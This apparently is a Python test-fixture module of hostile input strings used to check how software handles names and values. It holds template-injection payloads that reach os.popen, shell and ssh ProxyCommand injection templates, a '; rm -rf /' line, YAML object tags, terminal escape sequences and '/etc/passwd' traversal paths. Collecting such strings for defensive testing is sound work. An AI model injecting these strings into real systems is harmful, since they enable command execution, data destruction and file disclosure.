"""Texts that a host, an inventory or a person could put where a plain word is expected, by what they are to break."""

__all__ = ["ESCAPES", "NAMES", "NASTY", "SHELL", "TEMPLATES"]

NASTY = [
    "{{ 7*7 }}", "{% raw %}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os }}", "{#", "${PATH}",
    "$(touch /tmp/x)", "`id`", "; rm -rf /", "| cat", "&& id", "a\nb: c", "a: b", "- a", "&anchor", "*alias", "!!python/object:os.system",
    "!tag x", "%YAML 1.1", "---", "...", "# comment", " # comment", "'", '"', "\\", "\\x41", "yes", "no", "on", "off", "null", "~", "true",
    "1e3", "0x1F", "0o17", "1:20", "012", "1_000", ".inf", "=", "<<", "[a]", "{a: b}", "[", "{", "]", "}", ",", "?", "? a", ":", "@a", "%a", "\t",
    " lead", "trail ", "", "é", "\u2028", "\u202eevil", "\x1b[31m", "\x85", "\ufeff", "日本", "🙂", "a" * 5000, "<script>alert(1)</script>",
    "](javascript:x)", "-rf", "--help", "../../etc/passwd", "/etc/passwd", "CON", "a/../b", ".git", ".git/hooks/pre-commit", "a\x7fb",
]  # fmt: skip
"""What YAML, templates, shells, paths and Markdown take for something else."""

TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{{ config }}", "{{ self }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}", "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ request.application.__globals__ }}", "{{ [].__class__.__base__ }}", "{{ ().__class__.__bases__[0] }}", "{{ {}.__class__ }}",
    "{{ ''|attr('__class__') }}", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "{{ 'id'|filter('system') }}", "{{ x.append('y') }}",
    "{{ range(10**9)|list }}", "{{ 'a' * 10**9 }}", "{{ name }}", "{{ settings }}", "{% raw %}", "{% endraw %}", "{% if 1 %}", "{% endif %}",
    "{% for x in () %}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% import 'os' as os %}", "{% set x = 1 %}", "{% block x %}",
    "{% macro x() %}", "{% call x() %}", "{# comment", "#}", "{{", "}}", "{%- -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{{ 7 }}}}", "{{- 7 -}}",
    "*{7*7}", "@(7*7)", "{php}id{/php}", "%{7*7}", "{{ '%s'|format(7) }}",
]  # fmt: skip
"""What is a program to Jinja or one of its relatives: forty and more."""

SHELL = [
    "$({0})", "`{0}`", "; {0}", "| {0}", "|| {0}", "&& {0}", "& {0}", "\n{0}\n", "\r\n{0}", "$(({0}))", "${{IFS}}{0}", "'; {0} #", '"; {0} #', "'$({0})'",
    '"$({0})"', "\\$({0})", "a$({0})b", "a;{0};b", "-oProxyCommand={0}", "-o ProxyCommand={0}", "-F/dev/null -oProxyCommand={0}", "--option={0}",
    "x -oPermitLocalCommand=yes -oLocalCommand={0}", "%h;{0}", "%n$({0})", "a@$({0})", "$({0})@b", "[$({0})]:22", "a:22;{0}", "/bin/sh -c '{0}'", "<({0})", ">({0})",
    "() {{ :; }}; {0}", "$'\\n{0}'", "a\tb;{0}", "~$({0})", "*;{0}", "?`{0}`", "{{a,$({0})}}", "!{0}", "^x^{0}", "#\n{0}", "\x00;{0}", "\u2028{0}", "é;{0}",
]  # fmt: skip
"""What makes a shell, ssh or its ProxyCommand run `{0}`: forty and more. Source: CVE-2023-51385, ssh_config(5)."""

_END = ["\x07", "\x1b\\", "\x9c", ""]
ESCAPES = [
    *(f"\x1b]{code};evil{end}" for code in ("0", "1", "2") for end in _END),
    *(f"\x1b]8;;http://evil.example{end}here\x1b]8;;{end}" for end in _END), *(f"\x1b]52;c;ZXZpbA=={end}" for end in _END),
    "\x1b]4;1;rgb:ff/00/00\x07", "\x1b]10;#ff0000\x07", "\x1b]11;?\x07", "\x1b]1337;File=:AAAA\x07", "\x1b]777;notify;a;b\x07",
    "\x1b[2J", "\x1b[H", "\x1b[1;1H", "\x1b[10A", "\x1b[2K", "\x1b[31m", "\x1b[8m", "\x1b[7m", "\x1b[?25l", "\x1b[?1049h", "\x1b[?1000h", "\x1b[?2004h",
    "\x1b[6n", "\x1b[c", "\x1b[21t", "\x1b[5i", "\x1b[3J", "\x1b[1;5r", "\x1bc", "\x1b7\x1b8", "\x1bD", "\x1bM", "\x1b(0", "\x1b#8", "\x1b=",
    "\x1bPq#0;2;0;0;0\x1b\\", '\x1bP$q"p\x1b\\', "\x1bP+q544e\x1b\\", "\x1b_evil\x1b\\", "\x1b^evil\x1b\\", "\x1bX evil\x1b\\", "\x1bk evil\x1b\\",
    "\x9b31m", "\x9b2J", "\x9d0;evil\x9c", "\x90q\x9c", "\x84", "\x85", "\x8d", "\x98", "\x9e", "\x9f",
    "\r", "over\rwritten", "\x08\x08\x08", "\x07", "\x0b", "\x0c", "\x0e", "\x0f", "\x00", "\x7f", "\x1a", "\x05", "\x18",
    "\u202eevil", "\u2066a\u2069", "\u200f", "\u200b", "\u2060", "\ufeff", "\u2028", "\u2029", "\u061c", "\U000e0001\U000e0041",
    "[bold]x[/bold]", "[/nope]", "[link=http://evil.example]x[/link]", "[red on white]", ":warning:",
]  # fmt: skip
"""What moves a cursor, sets a title, opens a link, fills a clipboard or turns text round in some terminal: sixty and more.

Source: ECMA-48; xterm, "Control Sequences"; CVE-2021-25743 of kubectl.
"""

_ODD = ["", ".", "..", "...", "CON", "nul", "aux.txt", "com1", "a.", "a ", " a", "-", "--", "-rf", "~", "~root", ".git", ".GIT", ".git/config", "a/.git/b", "git~1", "a:b", "a::$DATA"]  # fmt: skip
_UP = [
    "../", "..\\", "/../", "....//", "%2e%2e/", "..%2f", "..;/", "a/../../", "/", "//", "\\\\host\\", "C:\\", "file:///", "./",
]  # fmt: skip
_LIKE = [
    "\uff21", "\uff41", "\u0430", "é", "e\u0301", "ﬁ", "ß", "ss", "K", "\u212a", "İ", "i̇", "\u017f", "s", "Ⅷ", "①", "日本", "🙂", "\u200b", "a\u200bb", "a\u202eb", "a\u00adb",
]  # fmt: skip
NAMES = [
    *NASTY, *_ODD, *_LIKE, *(f"{up}{to}" for up in _UP for to in ("etc/passwd", "x", "")), *(f"x{one}" for one in _LIKE),
    "a\x00b", "\x00", "a\nb", "a\rb", *("A" * n for n in (62, 63, 64, 255, 300, 4096)), *("ä" * n for n in (63, 64, 300)), "a" * 62 + "-", "-" * 63, "." * 255,
    "Shop", "shop", "SHOP", "sHOP", "shop-", "-shop", "1shop", "shop--a", "xn--a", "shop.service", "shop@1.service", "shop@a/b.service",
]  # fmt: skip
"""Names of services, hosts and files that lead out of a folder, or that some file system takes for another: two hundred."""
